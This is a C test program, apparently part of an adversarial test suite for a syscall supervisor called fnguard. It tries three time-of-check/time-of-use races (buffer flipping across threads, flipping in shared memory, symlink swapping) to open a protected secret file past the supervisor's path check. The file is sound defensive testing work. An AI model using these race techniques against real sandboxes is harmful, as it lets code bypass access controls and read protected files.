/*
 * toctou_race.c - adversarial test for fnguard (class: time-of-check/time-of-use races)
 *
 * A supervisor that reads the path argument from tracee memory, checks it and
 * then lets the kernel re-read the (by then different) memory can be raced.
 * Vectors:
 *   openat_race      - a thread flips a path buffer between a benign file and
 *                      FNG_SECRET while the main thread calls openat() on it.
 *   shared_mem_race  - same, but the buffer lives in a MAP_SHARED page that a
 *                      forked child flips; the parent calls open().
 *   symlink_swap_race- a thread atomically re-points a symlink in FNG_WORKDIR
 *                      between the benign file and FNG_SECRET (rename over it);
 *                      the main thread opens the symlink.
 * Each success of the attacker (an fd whose content is "FNGUARD-SECRET\n") makes
 * the vector BYPASSED.  If no benign open succeeded the race did not run: ERROR.
 *
 * Env: FNG_SECRET, FNG_WORKDIR.  Optional FNG_RACE_ATTEMPTS (default 20000).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "adv.h"

/* ------------------------------------------------------------------ program */
#define BENIGN_CONTENT "benign\n"
#define BUFSZ 4096
static int attempts = 20000;
static char path_a[BUFSZ], path_b[BUFSZ];	/* benign / secret, padded to equal length */
static size_t path_len;				/* including the NUL */
static const char *secret;
static char benign[PATH_MAX];

struct stats {
	long secret_hits, benign_hits, other_content, denied, torn, other_err;
	int last_other_errno;
};

static void classify(int fd, int err, struct stats *s)
{
	if (fd < 0) {
		if (is_denial(err))
			s->denied++;
		else if (err == ENOENT || err == ENOTDIR || err == ENAMETOOLONG)
			s->torn++;
		else {
			s->other_err++;
			s->last_other_errno = err;
		}
		return;
	}
	char buf[64];
	ssize_t n = pread(fd, buf, sizeof buf, 0);
	close(fd);
	if (is_secret(buf, n))
		s->secret_hits++;
	else if (n == (ssize_t)strlen(BENIGN_CONTENT) && memcmp(buf, BENIGN_CONTENT, (size_t)n) == 0)
		s->benign_hits++;
	else
		s->other_content++;
}

static void judge(const char *name, const struct stats *s, const char *extra)
{
	char d[600];
	snprintf(d, sizeof d,
		 "%ld/%d opens returned the secret, benign opens ok=%ld, denied=%ld, torn path=%ld, "
		 "other content=%ld, other errors=%ld%s%s%s",
		 s->secret_hits, attempts, s->benign_hits, s->denied, s->torn, s->other_content, s->other_err,
		 s->other_err ? " (last: " : "", s->other_err ? strerror(s->last_other_errno) : "",
		 s->other_err ? ")" : "");
	if (s->secret_hits > 0)
		report(name, BYPASSED, "%s%s", d, extra);
	else if (s->benign_hits == 0)
		report(name, ERRORED, "race did not run, no benign open succeeded: %s%s", d, extra);
	else
		report(name, DEFENDED, "%s%s", d, extra);
}

/* --- vector 1: thread flips a buffer --- */
static char race_buf[BUFSZ] __attribute__((aligned(64)));
static atomic_int stop_flag;
static atomic_long flips;

static void *flip_thread(void *arg)
{
	(void)arg;
	long n = 0;
	while (!atomic_load_explicit(&stop_flag, memory_order_relaxed)) {
		memcpy(race_buf, path_a, path_len);
		__asm__ volatile("" ::: "memory");
		memcpy(race_buf, path_b, path_len);
		__asm__ volatile("" ::: "memory");
		n++;
	}
	atomic_store(&flips, n);
	return NULL;
}

static void vector_thread_race(void)
{
	struct stats s;
	memset(&s, 0, sizeof s);
	memcpy(race_buf, path_a, path_len);
	atomic_store(&stop_flag, 0);
	pthread_t t;
	int rc = pthread_create(&t, NULL, flip_thread, NULL);
	if (rc) {
		report("openat_race", ERRORED, "setup: pthread_create: %s", strerror(rc));
		return;
	}
	for (int i = 0; i < attempts; i++) {
		int fd = openat(AT_FDCWD, race_buf, O_RDONLY);
		classify(fd, errno, &s);
	}
	atomic_store(&stop_flag, 1);
	pthread_join(t, NULL);
	char extra[80];
	snprintf(extra, sizeof extra, ", flips=%ld", atomic_load(&flips));
	judge("openat_race", &s, extra);
}

/* --- vector 2: forked child flips a MAP_SHARED buffer --- */
struct shared {
	volatile int stop;
	volatile long flips;
	char buf[BUFSZ] __attribute__((aligned(64)));
};

static void vector_shared_mem_race(void)
{
	struct stats s;
	memset(&s, 0, sizeof s);
	struct shared *sh = mmap(NULL, sizeof *sh, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED) {
		report("shared_mem_race", ERRORED, "setup: mmap: %s", strerror(errno));
		return;
	}
	memcpy(sh->buf, path_a, path_len);
	sh->stop = 0;
	pid_t parent = getpid();
	pid_t pid = fork();
	if (pid < 0) {
		setup_failed("shared_mem_race", "fork", errno);
		munmap(sh, sizeof *sh);
		return;
	}
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		alarm(300);
		long n = 0;
		while (!sh->stop) {
			memcpy(sh->buf, path_a, path_len);
			__asm__ volatile("" ::: "memory");
			memcpy(sh->buf, path_b, path_len);
			__asm__ volatile("" ::: "memory");
			if ((++n & 0xffff) == 0 && getppid() != parent)
				break;
		}
		sh->flips = n;
		_exit(0);
	}
	for (int i = 0; i < attempts; i++) {
		int fd = open(sh->buf, O_RDONLY);
		classify(fd, errno, &s);
	}
	sh->stop = 1;
	int st;
	waitpid(pid, &st, 0);
	char extra[80];
	snprintf(extra, sizeof extra, ", flips=%ld", sh->flips);
	judge("shared_mem_race", &s, extra);
	munmap(sh, sizeof *sh);
}

/* --- vector 3: symlink swap --- */
static char sl_link[PATH_MAX], sl_tmp_a[PATH_MAX], sl_tmp_b[PATH_MAX];
static atomic_long sl_flips, sl_fail;
static atomic_int sl_last_errno;

static void *symlink_thread(void *arg)
{
	(void)arg;
	long n = 0, f = 0;
	while (!atomic_load_explicit(&stop_flag, memory_order_relaxed)) {
		unlink(sl_tmp_a);
		if (symlink(benign, sl_tmp_a) || rename(sl_tmp_a, sl_link)) {
			f++;
			atomic_store(&sl_last_errno, errno);
		}
		unlink(sl_tmp_b);
		if (symlink(secret, sl_tmp_b) || rename(sl_tmp_b, sl_link)) {
			f++;
			atomic_store(&sl_last_errno, errno);
		}
		n++;
	}
	atomic_store(&sl_flips, n);
	atomic_store(&sl_fail, f);
	return NULL;
}

static void vector_symlink_race(const char *workdir)
{
	struct stats s;
	memset(&s, 0, sizeof s);
	snprintf(sl_link, sizeof sl_link, "%s/race-link", workdir);
	snprintf(sl_tmp_a, sizeof sl_tmp_a, "%s/race-link.a", workdir);
	snprintf(sl_tmp_b, sizeof sl_tmp_b, "%s/race-link.b", workdir);
	unlink(sl_link);
	if (symlink(benign, sl_link)) {
		report("symlink_swap_race", ERRORED, "setup: symlink(benign): %s", strerror(errno));
		return;
	}
	atomic_store(&stop_flag, 0);
	pthread_t t;
	int rc = pthread_create(&t, NULL, symlink_thread, NULL);
	if (rc) {
		report("symlink_swap_race", ERRORED, "setup: pthread_create: %s", strerror(rc));
		unlink(sl_link);
		return;
	}
	for (int i = 0; i < attempts; i++) {
		int fd = open(sl_link, O_RDONLY);
		classify(fd, errno, &s);
	}
	atomic_store(&stop_flag, 1);
	pthread_join(t, NULL);
	unlink(sl_link);
	unlink(sl_tmp_a);
	unlink(sl_tmp_b);
	char extra[160];
	long f = atomic_load(&sl_fail);
	snprintf(extra, sizeof extra, ", swaps=%ld, failed swap steps=%ld%s%s", atomic_load(&sl_flips), f,
		 f ? " last: " : "", f ? strerror(atomic_load(&sl_last_errno)) : "");
	judge("symlink_swap_race", &s, extra);
}

int main(void)
{
	adv_init();
	secret = need_env("FNG_SECRET");
	const char *workdir = need_env("FNG_WORKDIR");
	const char *a = getenv("FNG_RACE_ATTEMPTS");
	if (a && atoi(a) > 0)
		attempts = atoi(a);
	if (secret[0] != '/')
		env_error("FNG_SECRET must be absolute");

	/* the benign file, in the work dir */
	snprintf(benign, sizeof benign, "%s/race-benign", workdir);
	if (benign[0] != '/')
		env_error("FNG_WORKDIR must be absolute");
	int fd = open(benign, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, BENIGN_CONTENT, strlen(BENIGN_CONTENT)) != (ssize_t)strlen(BENIGN_CONTENT))
		env_error("cannot create %s: %s", benign, strerror(errno));
	close(fd);

	/* pad both paths with leading slashes to the same length */
	size_t lb = strlen(benign), ls = strlen(secret), l = lb > ls ? lb : ls;
	if (l + 1 >= BUFSZ)
		env_error("paths too long");
	memset(path_a, '/', l - lb);
	memcpy(path_a + (l - lb), benign, lb + 1);
	memset(path_b, '/', l - ls);
	memcpy(path_b + (l - ls), secret, ls + 1);
	path_len = l + 1;

	vector_thread_race();
	vector_shared_mem_race();
	vector_symlink_race(workdir);

	unlink(benign);
	return adv_exit_status();
}
